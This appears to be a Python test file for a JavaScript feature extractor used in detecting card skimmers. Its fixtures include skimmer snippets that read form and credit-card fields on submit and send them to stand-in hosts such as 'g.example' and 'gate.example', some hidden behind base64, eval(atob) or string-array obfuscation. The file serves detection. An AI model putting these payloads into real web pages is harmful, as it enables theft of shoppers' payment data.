"""Feature extraction on hand-written snippets (parsed, never run)."""

from __future__ import annotations

import base64

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.scripts import features as F
from bastion.scripts.tree import parse


def feats(src: str) -> F.FeatureSet:
    return F.Featurizer().featurize(parse(src.encode()))


def ids_of(src: str, group: int | None = None) -> set[int]:
    fs = feats(src)
    out: set[int] = set()
    for ids, _ in fs.groups:
        out.update(int(i) for i in ids)
    return out


def uni(token: str) -> int:
    return int(F._mix(F.GROUP_UNI, np.array([F.token_hash(token)], np.uint64))[0])


def extra(token: str) -> int:
    return int(F._mix(F.GROUP_EXTRA, np.array([F.token_hash(token)], np.uint64))[0])


def test_groups_are_sorted_by_position_and_in_range() -> None:
    fs = feats(
        "var cc = document.getElementById('cc_number').value;"
        "fetch('https://x.example/g', {body: cc});"
    )
    assert fs.groups
    for ids, pos in fs.groups:
        assert len(ids) == len(pos)
        assert np.all(np.diff(pos) >= 0)
        assert ids.max() < (1 << F.BITS)
        assert pos.max() < max(fs.length, 1)


def test_property_access_and_string_key_share_the_name_token() -> None:
    dotted = ids_of("document.cookie")
    keyed = ids_of("document['cookie']")
    assert uni("cookie") in dotted and uni("cookie") in keyed


def test_obfuscator_string_array_keeps_the_vocabulary() -> None:
    # javascript-obfuscator moves names into an array of strings behind an accessor.
    src = "var _0x1a2b=['cookie','addEventListener','submit'];document[_0x1a2b[1]](_0x1a2b[2],f);"
    got = ids_of(src)
    for word in ("cookie", "submit"):
        assert uni(word) in got
    assert uni("\x01obf:hex") in got  # the _0x name became a shape token


def test_subwords_split_case_and_separators() -> None:
    assert F.subwords("billing[cc_number]") == ["billing", "cc", "number"]
    assert F.subwords("creditCardNumber") == ["credit", "card", "number"]
    assert F.subwords("x") == []


def test_base64_payload_is_decoded_and_parsed() -> None:
    payload = (
        "var d=document.querySelector('#cc_number').value;new Image().src='//gate.example/?'+d;"
    )
    b64 = base64.b64encode(payload.encode()).decode()
    got = ids_of(f"eval(atob('{b64}'));")
    assert extra("\x02decoded:b64") in got
    assert extra("\x02nested-code") in got
    assert uni("queryselector") in got  # a token of the decoded, re-parsed code


def test_obfuscator_swapped_case_base64_is_decoded() -> None:
    b64 = base64.b64encode(b"querySelectorAll").decode().swapcase()
    assert F.decode_string(b64) == [("b64swap", "querySelectorAll")]


def test_char_code_calls_are_decoded() -> None:
    codes = ",".join(str(ord(c)) for c in "https://gate.example/collect")
    got = ids_of(f"var u = String.fromCharCode({codes});")
    assert extra("\x02decoded:fromcharcode") in got
    assert extra("collect") in got


def test_html_entity_and_percent_strings_are_decoded() -> None:
    ent = "".join(f"&#{ord(c)};" for c in "https://x.example/g.php")
    assert ("entity", "https://x.example/g.php") in F.decode_string(ent)
    assert F.decode_string("%64%6f%63%75%6d%65%6e%74%2e%63%6f%6f%6b%69%65") == [
        ("pct", "document.cookie")
    ]


def test_plain_words_are_not_decoded() -> None:
    assert F.decode_string("addEventListener") == []
    assert F.decode_string("short") == []


def test_string_shape_token_records_class() -> None:
    hexblob = "deadbeef" * 8
    got = ids_of(f"var k = '{hexblob}';")
    assert any(
        i == extra(f"\x02str:{F._len_bucket(64)}:hex:{int(F._entropy(hexblob) * 2)}") for i in got
    )


def test_nested_decoding_is_bounded() -> None:
    # Each layer is the base64 of the previous one inside eval(atob(...)).
    code = "var z = 1;"
    for _ in range(6):
        code = "eval(atob('" + base64.b64encode(code.encode()).decode() + "'));"
    fs = feats(code)
    nested_marks = sum(int(np.sum(ids == extra("\x02nested-code"))) for ids, _ in fs.groups)
    assert 1 <= nested_marks <= F.MAX_DECODE_DEPTH


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_featurizes(text: str) -> None:
    for src in (text, f"var s = '{text}';", f"x = '{text}' + '{text[::-1]}'; eval(atob('{text}'))"):
        fs = F.Featurizer().featurize(parse(src.encode("utf-8", "surrogatepass")))
        for ids, pos in fs.groups:
            assert len(ids) == len(pos)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), min_size=8, max_size=80))
def test_decode_string_never_raises(s: str) -> None:
    for cls in (None, "b64", "hex", "word", "numlist", "pct", "entity"):
        F.decode_string(s, cls)


def cap_ids(src: str) -> set[int]:
    """Capability tokens (single and pairs) of a snippet."""
    out: set[int] = set()
    for ids, _ in feats(src).groups:
        out.update(int(i) for i in ids)
    return out


def cap_token(name: str) -> int:
    return int(F._mix(F.GROUP_CAPS, np.array([F.token_hash("\x04cap:" + name)], np.uint64))[0])


def pair_token(a: str, b: str) -> int:
    names = [n for n, _ in F.CAPABILITIES]
    a, b = sorted((a, b), key=names.index)
    h = F.token_hash(f"\x04pair:{a}:{b}")
    return int(F._mix(F.GROUP_CAPS, np.array([h], np.uint64))[0])


SKIMMER = (
    "var d = {}; document.querySelectorAll('input').forEach(function (e) {"
    " d[e.name] = e.value; });"
    "document.addEventListener('submit', function () {"
    " new Image().src = 'https://g.example/c?cc=' + btoa(JSON.stringify(d)); });"
)


def test_skimmer_behaviour_sets_capabilities_and_pairs() -> None:
    fs = feats(SKIMMER)
    assert {"form-read", "hook", "net-sink", "encode", "url"} <= set(F.capability_names(fs.caps))
    ids = cap_ids(SKIMMER)
    assert cap_token("form-read") in ids
    assert pair_token("form-read", "net-sink") in ids
    assert pair_token("hook", "net-sink") in ids


def test_capabilities_survive_renaming_string_arrays_and_encoding() -> None:
    renamed = (
        "var _0x1a = ['querySelectorAll', 'input', 'value', 'addEventListener', 'submit',"
        " 'src'];"
        "var _0x2b = document[_0x1a[0]](_0x1a[1]);"
        "document[_0x1a[3]](_0x1a[4], function () { var _0x3c = new Image();"
        " _0x3c[_0x1a[5]] = atob('aHR0cHM6Ly9nLmV4YW1wbGUvYw==') + _0x2b[0][_0x1a[2]]; });"
    )
    assert pair_token("form-read", "net-sink") in cap_ids(renamed)
    payload = base64.b64encode(SKIMMER.encode()).decode()
    wrapped = f"eval(atob('{payload}'));"
    fs = feats(wrapped)
    assert {"form-read", "net-sink", "dyn-code"} <= set(F.capability_names(fs.caps))


def test_plain_library_code_lacks_the_skimmer_pairs() -> None:
    lib = (
        "function add(a, b) { return a + b; }"
        "var total = [1, 2, 3].reduce(add, 0); console.log('total', total);"
    )
    ids = cap_ids(lib)
    assert pair_token("form-read", "net-sink") not in ids
    assert feats(lib).caps == 0


def test_capability_masks_of_unknown_tokens_are_zero() -> None:
    toks = np.array([F.token_hash("value"), F.token_hash("zzzunknown")], np.uint64)
    masks = F.capability_masks(toks)
    assert masks[0] != 0 and masks[1] == 0
    assert F.capability_masks(np.zeros(0, np.uint64)).shape == (0,)
